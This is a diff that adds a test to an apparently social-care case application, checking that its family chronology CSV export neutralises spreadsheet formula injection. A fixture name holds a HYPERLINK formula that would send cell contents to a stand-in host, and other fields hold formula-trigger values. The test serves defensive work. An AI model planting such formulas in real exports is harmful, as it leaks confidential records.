@@ -240,6 +240,30 @@ def test_sam_exports_the_chronology_as_csv_and_pdf_and_both_are_audited(
     assert sorted(e.fields["format"] for e in exports) == ["csv", "pdf"]
 
 
+def test_issue_13_item_6_a_formula_for_a_name_is_neutralised_in_the_chronology_csv(
+        fletchers, social_worker, as_user):
+    """Kerry's name is set to a formula; Sam downloads Jack's family chronology and the Person
+    column (and every other) shows it as text a spreadsheet will not run."""
+    kerry, jack = fletchers["mum"], fletchers["jack"]
+    formula = '=HYPERLINK("http://example.invalid/?leak="&B2,"Open")'
+    people.do_update_person(kerry, acting_user=social_worker, expected_version=kerry.version,
+                            given_name=formula)
+    chron_actions.do_add_entry(kerry, acting_user=social_worker, kind="disclosure",
+                               occurred_on=date(2026, 11, 2), summary="-1+1",
+                               source_agency="@School", source_person="+Mrs Okafor",
+                               impact="=2+2")
+    response = as_user(social_worker).get(reverse("chronology:csv", args=[jack.pk]),
+                                          {"scope": "family"})
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    kerrys = [r for r in rows[1:] if formula in r[2]]
+    assert len(kerrys) == 1
+    row = kerrys[0]
+    assert row[2] == "'" + formula + " Fletcher"
+    assert row[5:9] == ["'-1+1", "'@School", "'+Mrs Okafor", "'=2+2"]
+    assert not [cell for r in rows for cell in r if cell[:1] in ("=", "+", "-", "@", "\t")]
+
+
 def test_who_may_read_a_chronology(fletchers, outsider, police_partner, as_user):
     url = reverse("chronology:person", args=[fletchers["jack"].pk])
     assert as_user(outsider).get(url).status_code == 404
